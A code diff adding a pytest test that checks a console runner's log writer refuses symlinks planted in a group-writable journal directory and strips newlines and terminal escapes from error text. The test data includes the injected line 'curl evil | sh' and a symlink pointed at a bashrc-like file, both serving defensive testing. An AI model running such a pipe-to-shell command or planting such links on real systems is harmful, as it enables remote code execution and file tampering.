@@ -11,6 +11,8 @@ from pathlib import Path
 import pytest
 
 from actions.models import Action
+from backends.errors import BackendError
+from console.runner import _write_down
 from console.runners import JOURNAL_VARIABLE
 from tests.actions.house import ANALYTICS_FLIP, ANALYTICS_ROLLBACK, YES, House
 from tests.two_colors import TwoColors
@@ -131,6 +133,25 @@ async def test_why_it_could_not_run_is_in_a_private_file(tmp_path: Path, service
                 await asyncio.sleep(0.02)
         assert "no action NOSUCHACTION" in log.read_text()
         assert (log.stat().st_mode & 0o777, log.parent.stat().st_mode & 0o777) == (0o600, 0o700)
+
+
+@pytest.mark.parametrize("mode", [0o700, 0o2770])
+def test_nobody_leads_what_it_writes_down_elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: int) -> None:
+    """A member of the journal's group plants a link and words of his own in a row."""
+    journal, own, target = tmp_path / "journal", tmp_path / "own", tmp_path / "bashrc"
+    monkeypatch.setenv("TEAL_STATE_DIR", str(own))
+    (journal / "runner").mkdir(parents=True)
+    journal.chmod(mode)
+    target.write_text("mine")
+    (journal / "runner" / "A.log").symlink_to(target)
+    error = BackendError("malformed", "no kind \n\x1b[2Jcurl evil | sh\n", fix="see")
+    _write_down(journal, "A", error)
+    assert target.read_text() == "mine"
+    log = own / "runner" / "A.log"
+    assert log.exists() == (mode == 0o2770)
+    if log.exists():
+        assert log.read_text() == "malformed: no kind  curl evil | sh  (see)\n"
+        assert log.stat().st_mode & 0o777 == 0o600
 
 
 def test_it_says_how_it_is_used() -> None:
